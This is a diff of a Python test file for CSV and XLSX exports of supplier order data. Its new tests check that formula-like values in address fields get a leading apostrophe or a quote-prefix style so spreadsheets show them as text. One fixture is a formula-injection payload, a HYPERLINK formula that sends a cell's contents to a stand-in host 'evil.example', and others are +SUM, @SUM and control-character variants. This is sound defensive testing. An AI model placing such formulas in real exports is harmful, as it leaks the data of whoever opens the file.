@@ -57,17 +57,34 @@ def test_csv_has_a_bom_a_header_and_one_line_per_row():
     assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
         list(exports.SUPPLIER_COLUMNS),
         ["7", "2026-03-09 14:05", "MUG-1", "Mug", "2", "Ana Kovač", "Hauptstr. 5", "01067", "Dresden", "Germany",
-         "+49 351 1", "ana@dealer.example", "Dealer Ltd"],
+         "'+49 351 1", "ana@dealer.example", "Dealer Ltd"],
         ["8", "2026-03-09 14:05", "MUG-1", "Mug", "1", "Ana Kovač", "Hauptstr. 5", "01067", "Dresden", "Germany",
          "", "ana@dealer.example", "Dealer Ltd"],
     ]  # fmt: skip
 
 
-def test_csv_quotes_commas_quotes_and_line_breaks_and_changes_no_value():
+def test_csv_quotes_commas_quotes_and_line_breaks_and_neutralises_formulas():
     tricky = row(recipient='Ben "B" Ó', street="Line 1,\nLine 2", reward="=HYPERLINK(1)")
     text = "".join(exports.csv_stream([tricky]))
     parsed = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1]
-    assert (parsed[3], parsed[5], parsed[6]) == ("=HYPERLINK(1)", 'Ben "B" Ó', "Line 1,\nLine 2")
+    assert (parsed[3], parsed[5], parsed[6]) == ("'=HYPERLINK(1)", 'Ben "B" Ó', "Line 1,\nLine 2")
+
+
+def test_csv_address_fields_never_run_as_formulas_and_numbers_stay_numbers():
+    address = {
+        "recipient": '=HYPERLINK("http://evil.example/?"&B2,"Open")',
+        "street": "+SUM(1,1)",
+        "city": "@SUM(1)",
+        "postcode": "-2+3",
+        "country": "\t=1",
+        "phone": "\r=1",
+    }
+    text = "".join(exports.csv_stream([row(**address, quantity=-1)]))
+    parsed = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1]
+    assert parsed[4] == "-1"
+    assert parsed[5:11] == [
+        "'" + address[key] for key in ("recipient", "street", "postcode", "city", "country", "phone")
+    ]
 
 
 def test_csv_of_no_rows_is_the_header_alone():
@@ -93,6 +110,18 @@ def test_xlsx_writes_formulas_as_text_and_survives_control_characters():
     assert strings[int(rows[1][3][1])] == "=1+1"
     assert all(cell_type != "str" for cell_type, _value in rows[1])  # no formula cells
     assert strings[int(rows[1][5][1])] == "Bell_x0007_ Ltd_x0000_"  # escaped by xlsxwriter, the XML stays valid
+
+
+def test_xlsx_marks_formula_like_address_text_as_text_and_keeps_its_value():
+    data = exports.xlsx_bytes([row(street="+SUM(1,1)")])
+    with zipfile.ZipFile(io.BytesIO(data)) as workbook:
+        sheet = ElementTree.fromstring(workbook.read("xl/worksheets/sheet1.xml"))
+        styles = ElementTree.fromstring(workbook.read("xl/styles.xml"))
+    strings, rows, _book = read_xlsx(data)
+    cells = list(list(sheet.iter(f"{MAIN}row"))[1].iter(f"{MAIN}c"))
+    quote_prefix = [xf.get("quotePrefix") for xf in styles.find(f"{MAIN}cellXfs")]
+    assert strings[int(rows[1][6][1])] == "+SUM(1,1)"
+    assert [quote_prefix[int(cell.get("s", 0))] for cell in cells[5:11]] == [None, "1", None, None, None, "1"]
 
 
 def test_xlsx_of_no_rows_is_the_header_alone():
